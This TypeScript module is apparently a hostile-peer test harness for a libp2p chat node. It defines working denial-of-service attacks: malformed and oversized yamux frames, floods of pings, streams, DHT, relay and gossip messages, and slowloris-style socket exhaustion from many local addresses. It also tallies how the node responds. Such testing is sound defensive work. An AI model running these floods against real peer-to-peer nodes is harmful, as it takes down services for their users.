/** Attacks on the transport of a node, each by one peer that begins anew when it is cut. */
import { connect, Socket } from 'node:net'
import { randomBytes } from 'node:crypto'
import { connectHostile, drained, header, push, pushEmpty, stopHostile } from './hostile-peer.ts'
import type { HostilePeer } from './hostile-peer.ts'

export interface Target {
  readonly address: string
  /** Where the attacker comes from. */
  readonly from: string
}

export interface Tally {
  bytes: number
  /** Connections that were made, those that the node ended, and those that it refused. */
  connections: number
  cut: number
  refused: number
}

/** Goes on until it is told to stop. */
export type Attack = (target: Target, tally: Tally, stop: AbortSignal) => Promise<void>

const [DATA, WINDOW, PING, GOAWAY] = [0, 1, 2, 3]
const [NONE, SYN, FIN, RST] = [0, 1, 4, 8]
const KNOWN = 1001
const BEGIN = Buffer.from('\x13/multistream/1.0.0\n\x07/noise\n', 'latin1')
const MIB = 2 ** 20

const many = (count: number, frames: (at: number) => readonly Uint8Array[]): Buffer =>
  Buffer.concat(Array.from({ length: count }, (_, at) => frames(at)).flat())
const pause = async (ms: number): Promise<void> => new Promise((resolve) => setTimeout(resolve, ms))

/** Connects again and again; `round` is called until the connection is over. */
function byPeer(round: (peer: HostilePeer, at: number, tally: Tally) => Promise<boolean>, identifies = false): Attack {
  return async ({ address, from }, tally, stop) => {
    while (!stop.aborted) {
      let peer: HostilePeer
      try {
        peer = await connectHostile(address, { from, identifies, signal: AbortSignal.any([stop, AbortSignal.timeout(5000)]) })
      } catch {
        tally.refused += 1
        await pause(50)
        continue
      }
      tally.connections += 1
      let at = 0
      while (await round(peer, at, tally)) {
        at += 1
        if (isOver(stop)) break
      }
      if (peer.connection.status !== 'open') tally.cut += 1
      await stopHostile(peer)
    }
  }
}

/** A call and not the field, which changes while something is awaited. */
function isOver(stop: AbortSignal): boolean {
  return stop.aborted
}

/** Frames, as fast as they are taken. */
function frames(next: (at: number) => Uint8Array, reads = true): Attack {
  return byPeer(async (peer, at, tally) => {
    if (at === 0 && !reads) stopReading(peer)
    const bytes = next(at)
    tally.bytes += bytes.byteLength
    return push(peer, bytes)
  })
}

/** A stream of a protocol for each round, and what is written on it. */
function streams(protocol: string, bytes: () => Uint8Array, identifies = false): Attack {
  return byPeer(async (peer, _at, tally) => {
    try {
      const stream = await peer.connection.newStream(protocol, { maxOutboundStreams: 1e5, signal: AbortSignal.timeout(3000) })
      stream.addEventListener('message', () => undefined)
      const what = bytes()
      tally.bytes += what.byteLength + 100
      if (what.byteLength > 0 && !stream.send(what)) await drained(stream)
      setTimeout(() => stream.abort(new Error('the next one')), 200)
    } catch {
      await pause(1)
    }
    await pause(0)
    return peer.connection.status === 'open'
  }, identifies)
}

/** Sockets that are held open, from many hosts at once. */
function sockets(hosts: number, begin: Uint8Array, gapMs: number): Attack {
  return async ({ address, from }, tally, stop) => {
    const [, host, port] = /\/ip4\/([^/]+)\/tcp\/(\d+)/u.exec(address)!
    const left = new Set<{ destroy(): void }>()
    const network = from.split('.').slice(0, 2).join('.')
    for (let at = 0; !stop.aborted; at++) {
      const socket = connect({ host: host!, port: Number(port), localAddress: `${network}.${1 + Math.floor((at % hosts) / 250)}.${1 + ((at % hosts) % 250)}` })
      socket.on('error', () => undefined)
      socket.on('data', () => undefined)
      socket.on('connect', () => {
        tally.connections += 1
        tally.bytes += begin.byteLength
        if (begin.byteLength > 0) socket.write(begin)
      })
      socket.on('close', () => {
        tally.cut += 1
        left.delete(socket)
      })
      left.add(socket)
      if (left.size > 4000) await pause(100)
      if (at % 4 === 3) await pause(gapMs)
    }
    for (const socket of left) socket.destroy()
  }
}

function stopReading(peer: HostilePeer): void {
  const found = new Set<object>()
  const queue: object[] = [peer.under]
  for (let one = queue.pop(); one !== undefined; one = queue.pop()) {
    if (found.has(one)) continue
    found.add(one)
    if (one instanceof Socket) {
      one.removeAllListeners('data')
      one.pause()
      return
    }
    for (const value of Object.values(one)) if (typeof value === 'object' && value !== null) queue.push(value as object)
  }
  throw new Error('no socket is found')
}

const open = header(WINDOW, SYN, KNOWN, 0)
const full = Buffer.concat([header(DATA, NONE, KNOWN, 65536), Buffer.alloc(65536)])
const opening = (count: number, of: (id: number) => readonly Uint8Array[]) => (at: number): Buffer =>
  many(count, (index) => of(KNOWN + 2 * (count * at + index)))
const proposal = (protocol: string): Buffer => Buffer.concat([Buffer.of(protocol.length + 1), Buffer.from(`${protocol}\n`)])
const negotiated = proposal('/multistream/1.0.0')
const early = Buffer.concat([negotiated, Buffer.from([0xff, 0x07]), Buffer.alloc(1000)])
const unknown = Buffer.concat([negotiated, many(200, () => [proposal('/x')])])

/** By name: what it does, and how. */
export const ATTACKS: Readonly<Record<string, { readonly what: string; readonly run: Attack }>> = {
  none: { what: 'nothing, for comparison', run: async (_target, _tally, stop) => new Promise((resolve) => stop.addEventListener('abort', () => resolve())) },
  bigframe: {
    what: 'a frame of 4 GiB', run: frames((at) => (at === 0 ? Buffer.concat([open, header(DATA, NONE, KNOWN, 0xffffffff)]) : Buffer.alloc(65536)))
  },
  nostream: { what: 'data for no stream', run: frames(() => full) },
  pings: { what: 'pings of yamux', run: frames((at) => many(5000, (index) => [header(PING, SYN, 0, at * 5000 + index)])) },
  'pings-unread': { what: 'pings, without reading the answers', run: frames((at) => many(5000, (index) => [header(PING, SYN, 0, at + index)]), false) },
  syns: { what: 'streams opened', run: frames(opening(2000, (id) => [header(WINDOW, SYN, id, 0)])) },
  'syns-unread': { what: 'streams opened, without reading', run: frames(opening(2000, (id) => [header(WINDOW, SYN, id, 0)]), false) },
  synrst: { what: 'streams opened and reset', run: frames(opening(1000, (id) => [header(WINDOW, SYN, id, 0), header(WINDOW, RST, id, 0)])) },
  halfclosed: { what: 'streams opened and half closed', run: frames(opening(1000, (id) => [header(WINDOW, SYN | FIN, id, 0)])) },
  zero: {
    what: 'frames without data, for a stream and for none',
    run: frames((at) => (at === 0 ? open : many(3000, (index) => [header(index % 2, NONE, index % 3 === 0 ? 7777 : KNOWN, 0)])))
  },
  bytes: { what: 'a byte in each frame', run: frames((at) => (at === 0 ? open : many(3000, () => [header(DATA, NONE, KNOWN, 1), Buffer.of(0x80)]))) },
  window: { what: 'windows that grow without end', run: frames((at) => (at === 0 ? open : many(3000, () => [header(WINDOW, NONE, KNOWN, 0x7fffffff)]))) },
  goaway: { what: 'a goodbye that is not one', run: frames((at) => (at === 0 ? header(GOAWAY, NONE, 0, 0) : open)) },
  empty: { what: 'messages of the encryption without content', run: byPeer(async (peer, _at, tally) => {
    tally.bytes += 18 * 2000
    return pushEmpty(peer, 2000)
  }) },
  proposals: { what: 'protocols proposed that nobody speaks', run: frames((at) => Buffer.concat([
    header(WINDOW, SYN, KNOWN + 2 * at, 0), header(DATA, NONE, KNOWN + 2 * at, unknown.byteLength), unknown
  ])) },
  early: { what: 'streams that are never agreed on, each with what it may keep', run: byPeer(async (peer, at, tally) => {
    const id = KNOWN + 2 * at
    const bytes = Buffer.concat([header(WINDOW, SYN, id, 0), header(DATA, NONE, id, early.byteLength), early])
    tally.bytes += bytes.byteLength
    await pause(at < 60 ? 0 : 500)
    return push(peer, at < 60 ? bytes : Buffer.alloc(0))
  }) },
  ping: { what: "libp2p's pings, a thousand at a time", run: streams('/ipfs/ping/1.0.0', () => Buffer.alloc(32 * 1024)) },
  identify: { what: 'who the node is, again and again', run: streams('/ipfs/id/1.0.0', () => Buffer.alloc(0)) },
  dht: { what: 'questions to the DHT', run: streams('/p2pchat/kad/1.0.0', () => many(50, () => {
    const question = Buffer.concat([Buffer.from([0x08, 0x04, 0x12, 34, 0x12, 32]), randomBytes(32)])
    return [Buffer.of(question.byteLength), question]
  })) },
  hop: { what: 'places on the relay, again and again', run: streams('/libp2p/circuit/relay/0.2.0/hop', () => Buffer.from([2, 8, 0]), true) },
  autonat: { what: 'dials back asked for', run: streams('/libp2p/autonat/2/dial-request', () => Buffer.from([4, 10, 2, 17, 1])) },
  member: { what: 'junk on member streams', run: streams('/p2pchat/member/1.0.0', () => Buffer.concat([Buffer.of(60), randomBytes(60)])) },
  unfinished: { what: 'a message of a megabyte that never ends', run: byPeer(async (peer, at, tally) => {
    if (at > 0) {
      await pause(500)
      return peer.connection.status === 'open'
    }
    try {
      const stream = await peer.connection.newStream('/p2pchat/member/1.0.0')
      stream.send(Buffer.concat([Buffer.from([0x80, 0x80, 0x40]), Buffer.alloc(MIB - 1)]))
      tally.bytes += MIB
    } catch {
      await pause(10)
    }
    return peer.connection.status === 'open'
  }) },
  gossip: { what: 'gossip without content', run: byPeer(async (peer, at, tally) => {
    if (at === 0) peer.gossip = await peer.connection.newStream('/meshsub/1.2.0').catch(() => undefined)
    const bytes = many(20_000, () => [Buffer.from([2, 0x1a, 0])])
    tally.bytes += bytes.byteLength
    try {
      if (peer.gossip?.send(bytes) === false) await drained(peer.gossip)
    } catch {
      await pause(10)
    }
    await pause(0)
    return peer.connection.status === 'open' && peer.gossip?.status === 'open'
  }, true) },
  churn: { what: 'connections made and ended', run: byPeer(async () => false) },
  idle: { what: 'sockets of forty hosts that say nothing', run: sockets(40, Buffer.alloc(0), 3) },
  half: { what: 'handshakes of forty hosts that are begun', run: sockets(40, Buffer.concat([BEGIN, Buffer.of(0, 32), randomBytes(32)]), 3) },
  junk: { what: 'junk from forty hosts', run: sockets(40, Buffer.alloc(65536, 0x41), 3) },
  endless: { what: 'protocols proposed before the encryption', run: sockets(40, Buffer.concat([negotiated, many(10_000, () => [proposal('/x')])]), 3) }
}
